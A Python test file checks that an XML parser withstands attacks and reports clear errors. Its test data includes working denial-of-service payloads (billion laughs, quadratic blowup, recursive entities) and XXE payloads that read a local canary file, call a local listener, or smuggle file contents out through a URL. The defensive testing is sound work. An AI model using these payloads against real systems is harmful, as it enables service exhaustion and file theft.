"""XML: attacks come to nothing, no file and no socket is opened, and errors say where."""

import json
import resource
import signal
import socket
import subprocess
import sys
import time
from contextlib import suppress
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from raw_store.errors import BodyUnreadable
from tests.making import make_payload
from tests.raw_store.parsing.jail import NO_JAIL

ROOT = Path(__file__).resolve().parents[3]
SECRET = "the canary sings"
XML_TEXT = st.text(
    st.characters(codec="utf-8", exclude_categories=["Cc"], exclude_characters="\ufffe\uffff")
)


def xml_of(body, content_type="application/xml"):
    return make_payload("sample.pages", body, content_type=content_type).xml()


def message_of(body, content_type="application/xml"):
    with pytest.raises(BodyUnreadable) as caught:
        xml_of(body, content_type)
    return str(caught.value)


def laughs(levels=9):
    entities = "".join(
        f'<!ENTITY l{level} "' + f"&l{level - 1};" * 10 + '">' for level in range(1, levels + 1)
    )
    return f'<!DOCTYPE l [<!ENTITY l0 "lol">{entities}]>', f"&l{levels};"


def bombs():
    declared, entity = laughs()
    filler = "x" * 50_000
    long = f'<!DOCTYPE l [<!ENTITY a "{filler}">]>'
    parameters = "".join(
        f'<!ENTITY % p{level} "' + f"&#37;p{level - 1};" * 10 + '">' for level in range(1, 10)
    )
    return {
        "billion laughs": f"{declared}<l>{entity}</l>",
        "billion laughs in an attribute": f"{declared}<l a='{entity}'/>",
        "quadratic": f"{long}<l>{'&a;' * 50_000}</l>",
        "quadratic in attributes": long + "<l>" + '<i a="&a;"/>' * 5_000 + "</l>",
        "defaults of attributes": (
            f'<!DOCTYPE l [<!ATTLIST i a CDATA "{filler}">]><l>' + "<i/>" * 50_000 + "</l>"
        ),
        "itself": '<!DOCTYPE l [<!ENTITY a "&b;"><!ENTITY b "&a;">]><l>&a;</l>',
        "parameters": f'<!DOCTYPE l [<!ENTITY % p0 "<!---->">{parameters}%p9;]><l>&x;</l>',
        "depth": "<a>" * 100_000,
    }


@pytest.mark.parametrize("name", bombs())
def test_a_bomb_is_an_error_in_little_time_and_memory(name):
    body = bombs()[name].encode()
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    started = time.process_time()

    message = message_of(body)

    assert message.startswith("The body is not XML: ")
    assert len(message) < 500
    assert time.process_time() - started < 1
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 64 * 1024


def attacks(canary: Path, port: int):
    """Documents that ask for a file or an address: text they would read → the document."""
    file, web = canary.as_uri(), f"http://127.0.0.1:{port}/x"
    return {
        "file": f'<!DOCTYPE a [<!ENTITY x SYSTEM "{file}">]><a>&x;</a>',
        "bare path": f'<!DOCTYPE a [<!ENTITY x SYSTEM "{canary}">]><a>&x;</a>',
        "attribute": f'<!DOCTYPE a [<!ENTITY x SYSTEM "{file}">]><a b="&x;"/>',
        "http": f'<!DOCTYPE a [<!ENTITY x SYSTEM "{web}">]><a>&x;</a>',
        "ftp": f'<!DOCTYPE a [<!ENTITY x SYSTEM "ftp://127.0.0.1:{port}/x">]><a>&x;</a>',
        "public": f'<!DOCTYPE a [<!ENTITY x PUBLIC "-//X//Y" "{file}">]><a>&x;</a>',
        "parameter": f'<!DOCTYPE a [<!ENTITY % x SYSTEM "{file}"> %x;]><a>&y;</a>',
        "parameter of http": f'<!DOCTYPE a [<!ENTITY % x SYSTEM "{web}"> %x;]><a>&y;</a>',
        "definition": f'<!DOCTYPE a SYSTEM "{file}"><a>&x;</a>',
        "definition of http": f'<!DOCTYPE a SYSTEM "{web}"><a>&x;</a>',
        "definition unused": f'<!DOCTYPE a SYSTEM "{web}"><a>fine</a>',
        "smuggling": (
            f'<!DOCTYPE a [<!ENTITY % f SYSTEM "{file}"><!ENTITY % e "<!ENTITY &#37; s SYSTEM '
            f"'{web}?%f;'>\">%e; %s;]><a/>"
        ),
        "inclusion": (
            f'<a xmlns:i="http://www.w3.org/2001/XInclude"><i:include href="{file}"'
            f' parse="text"/></a>'
        ),
        "style sheet": f'<?xml-stylesheet href="{file}" type="text/xsl"?><a>fine</a>',
        "schema": (
            f'<a xmlns:x="http://www.w3.org/2001/XMLSchema-instance"'
            f' x:noNamespaceSchemaLocation="{file}">fine</a>'
        ),
    }


@pytest.fixture
def canary(tmp_path):
    path = tmp_path / "canary.txt"
    path.write_text(SECRET)
    return path


@pytest.fixture
def listener():
    with socket.socket() as listening:
        listening.bind(("127.0.0.1", 0))
        listening.listen()
        listening.settimeout(0)
        yield listening


def jailed(tmp_path, way, documents):
    files = []
    for number, document in enumerate(documents):
        files.append(tmp_path / f"{number}.xml")
        files[-1].write_text(document)
    ran = subprocess.run(
        [sys.executable, "-m", "tests.raw_store.parsing.jail", way, *files],
        cwd=ROOT,
        capture_output=True,
        text=True,
    )
    if ran.returncode == NO_JAIL:
        pytest.skip("the kernel offers no jail to this process")
    return ran


def test_no_file_and_no_socket_is_opened(tmp_path, canary, listener):
    documents = attacks(canary, listener.getsockname()[1])

    ran = jailed(tmp_path, "safe", documents.values())

    assert ran.returncode == 0, ran.stderr
    answers = dict(zip(documents, map(json.loads, ran.stdout.splitlines()), strict=True))
    assert SECRET not in ran.stdout
    harmless = {"definition unused", "style sheet", "schema"}
    assert {name for name, said in answers.items() if said == "fine"} == harmless
    for name in answers.keys() - harmless - {"smuggling", "inclusion"}:
        assert "Only entities that the body itself declares are read" in answers[name], name
    with pytest.raises(BlockingIOError):
        listener.accept()


def test_the_jail_catches_a_parser_that_does_open_a_file(tmp_path, canary):
    ran = jailed(tmp_path, "unsafe", [attacks(canary, 1)["file"]])

    assert ran.returncode == -signal.SIGSYS


def test_entities_that_the_body_declares_are_put_in_place():
    root = xml_of(b'<!DOCTYPE a [<!ENTITY owl "http://o#">]><a b="&owl;x">&owl;y</a>')

    assert (root.get("b"), root.text) == ("http://o#x", "http://o#y")


@pytest.mark.parametrize(
    ("codec", "content_type", "declaration"),
    [
        ("utf-8", "application/xml", ""),
        ("utf-8-sig", "application/xml", '<?xml version="1.0" encoding="latin1"?>'),
        ("cp1251", "text/xml; charset=windows-1251", '<?xml version="1.0" encoding="utf-8"?>'),
        ("cp1251", "application/xml", '<?xml version="1.0" encoding="windows-1251"?>'),
        ("utf-16", "application/xml", '<?xml version="1.0" encoding="utf-16"?>'),
        ("utf-16-be", "application/xml", '<?xml version="1.0"?>'),
        ("utf-8", "text/xml; charset=klingon", '<?xml version="1.0" encoding="klingon"?>'),
        ("utf-8", "text/xml; charset=iso-2022-jp", ""),
    ],
)
def test_text_is_read_in_its_charset_and_no_declaration_contradicts(
    codec, content_type, declaration
):
    body = f"{declaration}<a>Зелёный</a>".encode(codec)

    assert xml_of(body, content_type).text == "Зелёный"


@given(text=XML_TEXT, codec=st.sampled_from(["utf-8", "utf-8-sig", "utf-16", "utf-16-be"]))
def test_any_text_reads_back(text, codec):
    escaped = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")

    root = xml_of(f'<?xml version="1.0"?><a>{escaped}</a>'.encode(codec))

    assert (root.text or "") == text


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        (b"", "It is empty"),
        (b" \n", "It is empty"),
        (b"<a>\n<b></a>", "mismatch: b line 2 and a, at line 2"),
        (b"<a>", "Premature end of data"),
        (b'{"a": 1}', "'<' not found, at line 1, column 1, before '{\"a\": 1}'"),
        (b"<a>\n x&nbsp;y</a>", "Entity 'nbsp' not defined, at line 2"),
        (b"<!doctype html><p>", "payload.html() reads that"),
        (b"<a>\xff</a>", "fit neither its charset label nor UTF-8"),
        (b"<a/><b/>", "Extra content at the end of the document"),
    ],
)
def test_an_error_says_what_and_where_and_what_next(body, expected):
    assert expected in message_of(body)


@given(body=st.binary(max_size=80), start=st.sampled_from([b"", b"<a>", b"<!DOCTYPE a ["]))
def test_any_bytes_are_xml_or_unreadable(body, start):
    with suppress(BodyUnreadable):
        xml_of(start + body)
